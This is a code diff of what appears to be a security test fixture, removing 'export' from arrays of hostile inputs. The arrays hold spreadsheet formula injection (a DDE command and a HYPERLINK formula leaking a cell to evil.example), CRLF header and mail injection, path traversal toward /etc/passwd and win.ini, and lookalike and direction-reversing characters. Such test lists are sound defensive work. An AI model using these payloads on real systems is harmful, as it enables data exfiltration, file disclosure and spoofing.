@@ -47,7 +47,7 @@ export const SCRIPTS = [
 ]
 
 /** What a spreadsheet would run, and what only looks as if our guard were in front of it. */
-export const FORMULAS = [
+const FORMULAS = [
   '=1+1',
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.example?x="&A1,"Click")',
@@ -86,7 +86,7 @@ export const FORMULAS = [
 ]
 
 /** What could end a line of a header or of a mail, or a name within one. */
-export const HEADER_LINES = [
+const HEADER_LINES = [
   'x\r\nSet-Cookie: staff=evil',
   'x\nBcc: evil@evil.example',
   'x\rLocation: https://evil.example',
@@ -103,7 +103,7 @@ export const HEADER_LINES = [
   `"; filename="evil.html`,
 ]
 
-export const PATHS = [
+const PATHS = [
   '../../../../etc/passwd',
   '..\\..\\..\\windows\\win.ini',
   '....//....//etc/passwd',
@@ -128,7 +128,7 @@ export const PATHS = [
 ]
 
 /** Signs that look alike, change direction, take no room, stand alone, or can be written in more than one way. */
-export const LOOKALIKES = [
+const LOOKALIKES = [
   `${at(0x430)}d${at(0x430)}@customer.example`,
   `ada@cust${at(0x3bf)}mer.example`,
   `${at(0x202e)}gpj.exe${at(0x202c)}`,
